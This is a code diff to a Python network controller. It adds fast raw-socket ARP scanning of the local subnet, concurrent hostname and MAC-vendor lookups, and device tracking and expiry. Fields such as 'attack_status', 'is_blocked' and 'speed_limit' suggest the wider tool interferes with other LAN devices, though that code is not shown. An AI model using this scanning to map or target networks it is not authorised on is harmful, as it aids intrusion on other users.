+        of prebuilt frames takes a few milliseconds, so its wall time is the
+        single reply window and more senders would only add sockets.
+        """
+        scan_iface = interface or local_iface
+        if hasattr(socket, 'AF_PACKET') and scan_iface and local_ip:
+            try:
+                return self._arp_scan_fast(network, scan_iface, local_ip)
+            except Exception as e:
+                logger.debug("Raw socket ARP scan failed (%s), falling back to Scapy", e)
+        
+        chunks = list(network.subnets(new_prefix=max(network.prefixlen, ARP_SCAN_CHUNK_PREFIX)))
+        
+        responders = {}
+        with ThreadPoolExecutor(max_workers=min(ARP_SCAN_MAX_WORKERS, len(chunks))) as pool:
+            # Broadcast on the interface the range was taken from, not Scapy's default one
+            for chunk_responders in pool.map(lambda chunk: self._arp_scan_chunk(str(chunk), scan_iface), chunks):
+                responders.update(chunk_responders)
+        return list(responders.items())
+
+    def _arp_scan_fast(self, network: ipaddress.IPv4Network, interface: str, local_ip: str,
+                       timeout: float = ARP_SCAN_TIMEOUT) -> List[Tuple[str, str]]:
+        """ARP scan with a raw AF_PACKET socket, bypassing Scapy (Linux only)
+        
+        A single 42-byte request frame is built once and only the target IP
+        (bytes 38-41) is rewritten for each host. Replies are parsed straight
+        from the frame: sender MAC at bytes 22-27, sender IP at bytes 28-31.
+        """
+        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP)) as sock:
+            _attach_arp_reply_filter(sock)
+            sock.bind((interface, ETH_P_ARP))
+            our_mac = sock.getsockname()[4]
+            
+            frame = bytearray(42)
+            frame[0:6] = b'\xff' * 6                                  # Ethernet broadcast
+            frame[6:12] = our_mac
+            frame[12:14] = b'\x08\x06'                               # EtherType ARP
+            frame[14:22] = b'\x00\x01\x08\x00\x06\x04\x00\x01'          # Ethernet/IPv4, who-has
+            frame[22:28] = our_mac
+            frame[28:32] = socket.inet_aton(local_ip)
+            
+            # Host addresses as 32-bit ints, excluding network and broadcast
+            first_host = int(network.network_address) + 1
+            last_host = int(network.broadcast_address) - 1
+            replies = {}
+            buffer = bytearray(64)
+            
+            def drain(wait):
+                deadline = time.monotonic() + wait
+                while True:
+                    remaining = deadline - time.monotonic()
+                    readable, _, _ = select.select([sock], [], [], max(remaining, 0))
+                    if not readable:
+                        return
+                    # Frames are read into one reused buffer and only replies are copied out
+                    if sock.recv_into(buffer) < 42:
+                        continue
+                    ethertype, opcode = ARP_FRAME_HEADER.unpack_from(buffer, 12)
+                    sender, = struct.unpack_from('!I', buffer, 28)
+                    # Only ARP replies (opcode 2) from hosts in the scanned range
+                    if (ethertype == ETH_P_ARP and opcode == 2 and
+                            first_host <= sender <= last_host and sender not in replies):
+                        replies[sender] = buffer[22:28].hex(':').upper()
+            
+            for host in range(first_host, last_host + 1):
+                struct.pack_into('!I', frame, 38, host)
+                sock.send(frame)
+                # Keep the receive buffer from overflowing on large ranges
+                if host % 256 == 0:
+                    drain(0)
+            
+            drain(timeout)
+            return [(str(ipaddress.IPv4Address(sender)), mac) for sender, mac in replies.items()]
+
+    def _arp_scan_chunk(self, chunk: str, interface: Optional[str] = None) -> List[Tuple[str, str]]:
+        """Broadcast ARP requests for one chunk of the scanned range"""
+        kwargs = {'iface': interface} if interface else {}
+        # retry=-1 resends unanswered requests until a round brings no new replies
+        answered, _ = srp(
+            Ether(dst="ff:ff:ff:ff:ff:ff") / ARP(pdst=chunk),
+            timeout=ARP_SCAN_TIMEOUT,
+            retry=-1,
+            verbose=False,
+            **kwargs
+        )
+        return [(received.psrc, received.hwsrc.upper().replace('-', ':')) for _, received in answered]
+
+    def _register_devices(self, responders: List[Tuple[str, str]], scan_ts: float) -> List[Device]:
+        """Refresh known devices and create new ones from (ip, mac) pairs
+        
+        Hostname and vendor lookups are blocking network I/O, so for new
+        devices they run concurrently on a thread pool instead of one by one,
+        with PTR queries going through aiodns when it is installed.
+        """
+        new_devices = {ip: mac for ip, mac in responders if ip not in self.devices}
+        hostnames = {}
+        vendors = {}
+        if new_devices:
+            with ThreadPoolExecutor(max_workers=min(ENRICHMENT_MAX_WORKERS, 2 * len(new_devices))) as pool:
+                # Devices from one vendor share an OUI, so each OUI is looked up once
+                oui_futures = {}
+                vendor_futures = {}
+                for ip, mac in new_devices.items():
+                    oui = mac[:8].upper().replace('-', ':')
+                    if oui not in oui_futures:
+                        oui_futures[oui] = pool.submit(self._get_mac_vendor, mac)
+                    vendor_futures[ip] = oui_futures[oui]
+                if aiodns is not None:
+                    # All PTR queries go out at once on the c-ares socket
+                    hostnames = asyncio.run(self._resolve_ptrs(list(new_devices)))
+                    if self.os_type == "Windows":
+                        # nbtstat can take seconds per dead host, so it gets the same
+                        # deadline as the PTR lookups below
+                        netbios_futures = {
+                            ip: self._lookup_pool.submit(self._resolve_netbios_cached, ip)
+                            for ip, hostname in hostnames.items() if not hostname
+                        }
+                        if netbios_futures:
+                            done, _ = wait(netbios_futures.values(), timeout=HOSTNAME_LOOKUP_TIMEOUT)
+                            hostnames.update({ip: future.result() for ip, future in netbios_futures.items() if future in done})
+                else:
+                    hostname_futures = {ip: self._lookup_pool.submit(self._resolve_hostname, ip) for ip in new_devices}
+                    # Don't hold the scan for dead PTR lookups; late answers land in
+                    # hostname_cache and are picked up when the device is seen again
+                    done, _ = wait(hostname_futures.values(), timeout=HOSTNAME_LOOKUP_TIMEOUT)
+                    hostnames = {ip: future.result() for ip, future in hostname_futures.items() if future in done}
+                vendors = {ip: future.result() for ip, future in vendor_futures.items()}
+        
+        # The lookups above stay outside the lock; a device another scan added
+        # meanwhile is just refreshed below instead of created
+        with self._devices_lock:
+            return self._merge_devices(responders, hostnames, vendors, scan_ts)
+
+    def _merge_devices(self, responders: List[Tuple[str, str]], hostnames: Dict[str, str],
+                       vendors: Dict[str, str], scan_ts: float) -> List[Device]:
+        """Apply a scan's responders to devices and publish the result (holding _devices_lock)"""
+        # Bound once up front; on large subnets this loop runs for every
+        # responder and the attribute lookups add up
+        devices = self.devices
+        hostname_cache = self.hostname_cache
+        added = {}
+        # Whether anything the network summary counts has changed
+        changed = False
+        discovered = []
+        append = discovered.append
+        for ip, mac in responders:
+            device = devices.get(ip) or added.get(ip)
+            if device:
+                device.last_seen_epoch = scan_ts
+                if device.status != "active":
+                    device.status = "active"
+                    changed = True
+                if not device.hostname:
+                    hostname = hostname_cache.get(ip)
+                    if hostname and hostname is not TTLCache.MISSING:
+                        device.hostname = hostname
+                        device.device_type = self.guess_device_type(hostname, device.vendor)
+                        changed = True
+            else:
+                hostname = hostnames.get(ip)
+                vendor = vendors.get(ip)
+                device = Device(
+                    ip=ip,
+                    mac=mac,
+                    hostname=hostname,
+                    vendor=vendor,
+                    device_type=self.guess_device_type(hostname, vendor),
+                    last_seen_epoch=scan_ts
+                )
+                added[ip] = device
+            append(device)
+        self._active_ips.update(device.ip for device in discovered)
+        
+        if added:
+            # Publish a new dict rather than mutating the one API threads may be iterating
+            self.devices = {**devices, **added}
+        # A scan of an unchanged network keeps the cached summary counts valid
+        if added or changed:
+            self._summary_generation += 1
+        return discovered
+
+    def _expire_devices(self, discovered: List[Device], scan_ts: float):
+        """Mark devices missing from the scan inactive and forget long-gone ones
+        
+        Only devices that are still active are checked each scan, so the cost
+        does not grow with every device ever seen. The full sweep for expiry
+        runs once every DEVICE_EXPIRY_CHECK_INTERVAL scans.
+        """
+        seen = {device.ip for device in discovered}
+        with self._devices_lock:
+            # Counted under the lock so overlapping scans can't skip or repeat a sweep
+            self._scan_id += 1
+            changed = False
+            for ip in self._active_ips - seen:
+                device = self.devices.get(ip)
+                if device is None:
+                    self._active_ips.discard(ip)
+                elif scan_ts - device.last_seen_epoch > DEVICE_INACTIVE_AFTER:
+                    device.status = "inactive"
+                    device.current_speed = 0.0
+                    self._active_ips.discard(ip)
+                    changed = True
+        
+            if self._scan_id % DEVICE_EXPIRY_CHECK_INTERVAL == 0:
+                devices = self.devices
+                oldest_kept = scan_ts - DEVICE_EXPIRY_AFTER
+                # Keep devices that are being managed even if they went away
+                expired = {
+                    ip for ip, device in devices.items()
+                    if device.last_seen_epoch < oldest_kept
+                    and not (device.is_protected or device.is_blocked or device.speed_limit
+                             or device.attack_status != "none")
+                }
+                # Usually nothing has expired, so only copy the dict when something has
+                if expired:
+                    self.devices = {ip: device for ip, device in devices.items() if ip not in expired}
+                    changed = True
+            if changed:
+                self._summary_generation += 1
+
     def _get_devices_from_arp_table(self) -> List[Device]:
         """Fallback method to get devices from system ARP table"""
         try:
-            current_time = datetime.now()
-            discovered = []
+            scan_ts = time.monotonic()
+            responders = []
             
-            if self.os_type == "Windows":
+            if self.os_type == "Windows" and self.platform_monitor and hasattr(self.platform_monitor, 'get_arp_table'):
+                # Read in-process through the IP Helper API rather than parsing arp -a
+                responders = [
+                    (entry['ip'], entry['mac'].upper()) for entry in self.platform_monitor.get_arp_table()
+                    if self.validate_ip(entry['ip'])
+                ]
+            elif self.os_type == "Windows":
                 output = subprocess.check_output(
-                    ['arp', '-a'],
+                    [self.arp_path, '-a'],
                     text=True,
                     creationflags=subprocess.CREATE_NO_WINDOW
                 )
-                for line in output.splitlines():
-                    parts = line.split()
-                    if len(parts) >= 3 and '.' in parts[0]:
-                        ip = parts[0]
-                        mac = parts[1].replace('-', ':').upper()
-                        if self.validate_ip(ip) and mac != 'FF:FF:FF:FF:FF:FF':
-                            if ip in self.devices:
-                                device = self.devices[ip]
-                                device.last_seen = current_time
-                                device.status = "active"
-                            else:
-                                hostname = self._resolve_hostname(ip)
-                                vendor = self._get_mac_vendor(mac)
-                                device = Device(
-                                    ip=ip,
-                                    mac=mac,
-                                    hostname=hostname,
-                                    vendor=vendor,
-                                    device_type=self.guess_device_type(hostname, vendor),
-                                    last_seen=current_time
-                                )
-                                self.devices[ip] = device
-                            discovered.append(device)
+                responders = [(ip, mac) for ip, mac in _parse_windows_arp(output) if self.validate_ip(ip)]
+            elif self.os_type == "Linux":
+                # The kernel neighbour table, without depending on net-tools' arp
+                try:
+                    responders = list(_iter_linux_arp_table())
+                except OSError as e:
+                    logger.debug("Could not read %s: %s", PROC_NET_ARP, e)
             else:
-                # Linux/macOS
+                # macOS
                 try:
                     output = subprocess.check_output(['arp', '-a'], text=True)
                     for line in output.splitlines():
@@ -879,31 +1740,25 @@ class NetworkController:
                                     mac = p.upper()
                                     break
                             if ip and mac and self.validate_ip(ip):
-                                if ip in self.devices:
-                                    device = self.devices[ip]
-                                    device.last_seen = current_time
-                                    device.status = "active"
-                                else:
-                                    hostname = self._resolve_hostname(ip)
-                                    vendor = self._get_mac_vendor(mac)
-                                    device = Device(
-                                        ip=ip,
-                                        mac=mac,
-                                        hostname=hostname,
-                                        vendor=vendor,
-                                        device_type=self.guess_device_type(hostname, vendor),
-                                        last_seen=current_time
-                                    )
-                                    self.devices[ip] = device
-                                discovered.append(device)
+                                responders.append((ip, mac))
                 except Exception:
                     pass
             
-            logging.info(f"Discovered {len(discovered)} devices from ARP table")
+            if self._local_network:
+                # The table also lists neighbours on other interfaces (VPNs, container bridges)
+                network, netmask = self._local_network
+                responders = [
+                    (ip, mac) for ip, mac in responders
+                    if int(ipaddress.IPv4Address(ip)) & netmask == network
+                ]
+            
+            discovered = self._register_devices(responders, scan_ts)
+            
+            logger.info("Discovered %s devices from ARP table", len(discovered))
             return discovered
             
         except Exception as e:
-            logging.error(f"Error reading ARP table: {e}")
+            logger.error("Error reading ARP table: %s", e)
             return list(self.devices.values())
 
     def restore_device(self, ip: str) -> bool:
@@ -935,7 +1790,15 @@ class NetworkController:
         }
 
     def _resolve_hostname(self, ip: str) -> Optional[str]:
-        """Resolve IP address to hostname"""
+        """Resolve IP address to hostname (cached, failures only briefly)"""
+        hostname = self.hostname_cache.get(ip)
+        if hostname is TTLCache.MISSING:
+            hostname = self._lookup_hostname(ip)
+            self.hostname_cache.set(ip, hostname)
+        return hostname
+
+    def _lookup_hostname(self, ip: str) -> Optional[str]:
+        """Resolve IP address to hostname with DNS, then NetBIOS on Windows"""
         try:
             hostname, _, _ = socket.gethostbyaddr(ip)
             return hostname
@@ -944,70 +1807,116 @@ class NetworkController:
         
         # Try NetBIOS on Windows
         if self.os_type == "Windows":
+            return self._resolve_netbios(ip)
+        return None
+
+    def _resolve_netbios_cached(self, ip: str) -> Optional[str]:
+        """Resolve IP address to its NetBIOS name, caching a name found after the scan moved on"""
+        hostname = self._resolve_netbios(ip)
+        if hostname:
+            self.hostname_cache.set(ip, hostname)
+        return hostname
+
+    def _resolve_netbios(self, ip: str) -> Optional[str]:
+        """Resolve IP address to its NetBIOS name (Windows only)"""
+        try:
+            output = subprocess.check_output(
+                [self.nbtstat_path, '-A', ip],
+                text=True,
+                timeout=3,
+                creationflags=subprocess.CREATE_NO_WINDOW
+            )
+            for line in output.splitlines():
+                if '<00>' in line and 'UNIQUE' in line:
+                    return line.split()[0].strip()
+        except Exception:
+            pass
+        return None
+
+    async def _resolve_ptrs(self, ips: List[str], timeout: float = HOSTNAME_LOOKUP_TIMEOUT) -> Dict[str, Optional[str]]:
+        """Resolve many IP addresses to hostnames concurrently with aiodns"""
+        # c-ares gives up on its own after one try, so queries abandoned by
+        # wait_for don't keep retrying in the background
+        resolver = aiodns.DNSResolver(timeout=timeout, tries=1)
+        
+        async def resolve(ip):
+            hostname = self.hostname_cache.get(ip)
+            if hostname is not TTLCache.MISSING:
+                return hostname
             try:
-                output = subprocess.check_output(
-                    ['nbtstat', '-A', ip],
-                    text=True,
-                    timeout=3,
-                    creationflags=subprocess.CREATE_NO_WINDOW
-                )
-                for line in output.splitlines():
-                    if '<00>' in line and 'UNIQUE' in line:
-                        return line.split()[0].strip()
+                result = await asyncio.wait_for(resolver.gethostbyaddr(ip), timeout)
+                hostname = result.name
             except Exception:
-                pass
-        return None
+                hostname = None
+            self.hostname_cache.set(ip, hostname)
+            return hostname
+        
+        names = await asyncio.gather(*(resolve(ip) for ip in ips))
+        return dict(zip(ips, names))
 
     def _get_mac_vendor(self, mac: str) -> Optional[str]:
         """Look up vendor from MAC address OUI"""
-        if mac in self.mac_vendor_cache:
-            return self.mac_vendor_cache[mac]
-        
-        oui = mac.replace(':', '').replace('-', '')[:6].upper()
+        try:
+            oui = _oui_key(mac)
+        except ValueError:
+            return None
         
-        # Common vendor OUI prefixes
-        oui_database = {
-            'AABBCC': 'Apple, Inc.',
-            '00155D': 'Microsoft Corporation',
-            '001A2B': 'Apple, Inc.',
-            '3C5AB4': 'Google, Inc.',
-            'B827EB': 'Raspberry Pi Foundation',
-            'DC44B6': 'TP-Link Technologies',
-            'E0D55E': 'LITEON Technology',
-            '001E8C': 'ASUSTek Computer',
-            '5C497D': 'Huawei Technologies',
-            '8C8590': 'Apple, Inc.',
-            'F0B429': 'Samsung Electronics',
-            '00248C': 'Cisco Systems',
-            '0024D4': 'Dell Inc.',
-            '00264D': 'Dell Inc.',
-            'EC1A59': 'Hewlett Packard',
-            'F4F951': 'Xiaomi Communications',
-            '98FAE3': 'Intel Corporate',
-            '7CE32E': 'Sonos, Inc.',
-            '001377': 'Samsung Electronics',
-            '0017FA': 'Microsoft Corporation',
-        }
+        vendor = self.mac_vendor_cache.get(oui)
+        if vendor is not TTLCache.MISSING:
+            return vendor
         
-        vendor = oui_database.get(oui)
+        vendor = self._oui_table.get(oui)
         
-        if not vendor:
+        if not vendor and time.monotonic() >= self._vendor_api_retry_at:
             try:
-                response = requests.get(
-                    f"https://api.macvendors.com/{oui}",
-                    timeout=2
-                )
-                if response.status_code == 200:
-                    vendor = response.text.strip()
+                vendor = _lookup_vendor_online(f"{oui:06X}")
+            except requests.HTTPError as e:
+                if e.response is not None and e.response.status_code == 429:
+                    # Rate limited: don't spend the rest of the scan collecting more 429s
+                    retry_after = e.response.headers.get('Retry-After', '')
+                    backoff = float(retry_after) if retry_after.isdigit() else VENDOR_RATE_LIMIT_BACKOFF
+                    self._vendor_api_retry_at = time.monotonic() + backoff
             except Exception:
                 pass
         
-        if vendor:
-            self.mac_vendor_cache[mac] = vendor
+        # Unknown OUIs and failed lookups are retried after NEGATIVE_CACHE_TTL
+        self.mac_vendor_cache.set(oui, vendor)
         return vendor
 
+    def _refresh_oui_table(self):
+        """Download the IEEE registry if it is missing or stale and switch lookups over to it"""
+        if _oui_table_is_stale() and download_oui_table():
+            # OUIs cached as unknown pick up the new table once NEGATIVE_CACHE_TTL passes
+            self._oui_table = _load_oui_table()
+
+    def _load_vendor_cache(self, path: str = VENDOR_CACHE_PATH):
+        """Seed the vendor cache with lookups saved by a previous run"""
+        if not os.path.exists(path):
+            return
+        try:
+            with open(path, encoding='utf-8') as f:
+                for oui, vendor in json.load(f).items():
+                    self.mac_vendor_cache.set(int(oui, 16), vendor)
+        except Exception as e:
+            logger.error("Error loading vendor cache from %s: %s", path, e)
+
+    def save_vendor_cache(self, path: str = VENDOR_CACHE_PATH) -> bool:
+        """Persist successful vendor lookups for the next run"""
+        try:
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            vendors = {f"{oui:06X}": vendor for oui, vendor in self.mac_vendor_cache.items() if vendor}
+            temp_path = f"{path}.tmp"
+            with open(temp_path, 'w', encoding='utf-8') as f:
+                json.dump(vendors, f)
+            os.replace(temp_path, path)
+            return True
+        except Exception as e:
+            logger.error("Error saving vendor cache to %s: %s", path, e)
+            return False
+
     def get_all_devices(self) -> List[Dict]:
         """Get all devices as list of dictionaries for API"""
+        clock_offset = time.time() - time.monotonic()
         return [
             {
                 "ip": d.ip,
@@ -1020,7 +1929,7 @@ class NetworkController:
                 "status": d.status,
                 "speed_limit": d.speed_limit,
                 "current_speed": round(d.current_speed, 2),
-                "last_seen": d.last_seen.isoformat() if d.last_seen else None,
+                "last_seen": d.last_seen_at(clock_offset).isoformat(),
                 "is_protected": d.is_protected,
                 "is_blocked": d.is_blocked,
                 "attack_status": d.attack_status